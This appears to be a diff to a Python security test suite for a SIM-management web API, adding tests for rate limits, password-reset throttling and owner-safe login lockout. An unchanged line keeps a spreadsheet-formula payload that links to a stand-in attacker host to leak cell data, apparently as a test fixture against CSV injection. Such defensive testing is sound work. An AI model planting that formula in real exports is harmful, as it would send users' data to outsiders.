@@ -4,6 +4,7 @@ stranger's wrong passwords cannot lock the owner out."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import uuid
@@ -13,15 +14,25 @@ import httpx
 from fastapi import params
 from fastapi.dependencies.models import Dependant
 from fastapi.routing import APIRoute
+from sqlalchemy import func, select
 from starlette.routing import BaseRoute
 
 from api.app import create_app
 from api.limits import UPLOAD_PATHS
+from api.ratelimit import RateLimiter
 from domain.enums import SimStatus
-from domain.models import SimCard, SimImport
+from domain.errors import RateLimited
+from domain.models import RateLimitHit, SimCard, SimImport
 from infra.settings import Settings
-from tests.api._security_support import Db, bearer, other_app
-from tests.api._support import assert_problem, random_iccid, random_imsi
+from tests.api._security_support import (
+    Db,
+    add_staff_member,
+    bearer,
+    other_app,
+    random_ip,
+    token_response,
+)
+from tests.api._support import STRONG_PASSWORD, assert_problem, random_iccid, random_imsi
 from tests.api.conftest import Tenant
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2;"Cliquez ici")'
@@ -190,3 +201,123 @@ def test_every_file_upload_route_has_its_own_limit(settings: Settings) -> None:
     uploads = {route.path for route in routes(create_app(settings).routes) if takes_a_file(route.dependant)}
     assert uploads == set(UPLOAD_PATHS)
     assert len(uploads) >= 4
+
+
+# --- rate limits shared by every API process ---------------------------------------------------------------
+
+
+async def _hits(db: Db, key: str | None = None) -> int:
+    async with db() as session:
+        query = select(func.count()).select_from(RateLimitHit)
+        if key is not None:
+            query = query.where(RateLimitHit.key == key)
+        return int((await session.execute(query)).scalar_one())
+
+
+async def test_limits_forget_keys_whose_window_ended_and_the_table_is_bounded(db: Db) -> None:
+    now = [1_000_000.0]
+    limiter = RateLimiter(db, clock=lambda: now[0], max_rows=50)
+    key = f"test:{uuid.uuid4().hex}"
+    for _ in range(3):
+        await limiter.take(key, 3, 60)
+    try:
+        await limiter.take(key, 3, 60)
+        raise AssertionError("the fourth request in the window was let through")
+    except RateLimited as refused:
+        assert refused.retry_after_s == 60
+    now[0] += 30
+    assert await limiter.retry_after(key, 3, 60) == 30
+    now[0] += 31
+    assert await limiter.retry_after(key, 3, 60) is None
+    await limiter.prune()
+    assert await _hits(db, key) == 0  # the key is gone, not kept empty
+
+    flood = f"flood:{uuid.uuid4().hex}"
+    for n in range(80):  # distinct keys, all inside their window
+        await limiter.hit(f"{flood}:{n}", 3600)
+    await limiter.prune()
+    assert await _hits(db) <= 50
+    await limiter.take(key, 3, 60)  # still counting after the table was cut
+
+
+async def test_a_limit_reached_through_one_api_holds_on_the_other(settings: Settings, db: Db, tenant: Tenant) -> None:
+    email, _ = await add_staff_member(db, org_id=tenant.org_id)
+    address = random_ip()
+    limits = {"rate_limit_login_failures_per_ip": 3, "login_max_failures": 100, "rate_limit_password_resets_per_ip": 2}
+    async with (
+        other_app(settings, client_ip=address, **limits) as first,
+        other_app(settings, client_ip=address, **limits) as second,
+    ):
+        for _ in range(3):
+            assert_problem(await token_response(first, f"nobody-{uuid.uuid4().hex[:6]}@x.fr", "Wrong-pass-1!"), 401)
+        limited = await token_response(second, email, STRONG_PASSWORD)
+        assert_problem(limited, 429)
+        assert 1 <= int(limited.headers["retry-after"]) <= settings.rate_limit_window_s
+
+        for client in (first, second):
+            forgot = await client.post("/api/v1/auth/password/forgot", json={"email": f"x{uuid.uuid4().hex[:6]}@x.fr"})
+            assert forgot.status_code == 202
+        refused = await first.post("/api/v1/auth/password/forgot", json={"email": email})
+        assert_problem(refused, 429)
+        assert int(refused.headers["retry-after"]) >= 1
+
+
+async def test_password_reset_requests_are_limited_per_address(settings: Settings, db: Db, tenant: Tenant) -> None:
+    async with other_app(settings, rate_limit_password_resets_per_ip=3) as client:
+        for _ in range(3):  # three different accounts from one address
+            forgot = await client.post("/api/v1/auth/password/forgot", json={"email": f"y{uuid.uuid4().hex[:6]}@x.fr"})
+            assert forgot.status_code == 202, forgot.text
+        refused = await client.post("/api/v1/auth/password/forgot", json={"email": f"z{uuid.uuid4().hex[:6]}@x.fr"})
+        assert_problem(refused, 429)
+        assert int(refused.headers["retry-after"]) >= 1
+    async with other_app(settings, rate_limit_password_resets_per_ip=3) as elsewhere:
+        forgot = await elsewhere.post("/api/v1/auth/password/forgot", json={"email": f"y{uuid.uuid4().hex[:6]}@x.fr"})
+        assert forgot.status_code == 202  # another address has its own budget
+
+
+# --- lockout cannot be turned against the owner -----------------------------------------------------------
+
+
+async def test_a_stranger_cannot_lock_the_owner_out(settings: Settings, db: Db, tenant: Tenant) -> None:
+    email, _ = await add_staff_member(db, org_id=tenant.org_id)
+    async with other_app(settings) as attacker, other_app(settings) as owner:
+        for _ in range(settings.login_max_failures):
+            assert_problem(await token_response(attacker, email, "Wrong-password-1!"), 401)
+        # the attacker's address is locked out of this account, even with the right password
+        refused = await token_response(attacker, email, STRONG_PASSWORD)
+        assert_problem(refused, 401)
+        assert refused.json()["code"] == "authentication_failed"
+        # the owner, from another address, still logs in
+        assert (await token_response(owner, email, STRONG_PASSWORD)).status_code == 200
+        portal = await owner.post("/portal/login", data={"email": email, "password": STRONG_PASSWORD})
+        assert portal.status_code != 401
+
+
+async def test_guessing_one_account_from_many_addresses_is_slowed_down(
+    settings: Settings, db: Db, tenant: Tenant
+) -> None:
+    email, _ = await add_staff_member(db, org_id=tenant.org_id)
+    unknown = f"nobody-{uuid.uuid4().hex[:8]}@test.simflow"
+    free = 4
+    app = create_app(settings.model_copy(update={"login_account_free_failures": free, "login_account_max_delay_s": 30}))
+
+    async def attempt(target: str, password: str = "Wrong-password-1!") -> httpx.Response:
+        """One attempt from a new address: no address ever reaches its own lockout."""
+        transport = httpx.ASGITransport(app=app, client=(random_ip(), 40000))
+        async with httpx.AsyncClient(transport=transport, base_url="http://simflow.test") as client:
+            return await token_response(client, target, password)
+
+    async with app.router.lifespan_context(app):
+        for target in (email, unknown):  # an unknown address is throttled alike: nothing to enumerate
+            for _ in range(free):
+                assert_problem(await attempt(target), 401)
+            slowed = await attempt(target)
+            assert_problem(slowed, 429)
+            assert int(slowed.headers["retry-after"]) == 1
+        await asyncio.sleep(1.2)
+        assert_problem(await attempt(email), 401)  # one more guess after the wait…
+        longer = await attempt(email, STRONG_PASSWORD)
+        assert_problem(longer, 429)  # …and the next wait doubles, for the owner too
+        assert int(longer.headers["retry-after"]) == 2
+        await asyncio.sleep(2.2)
+        assert (await attempt(email, STRONG_PASSWORD)).status_code == 200  # delayed, never locked out
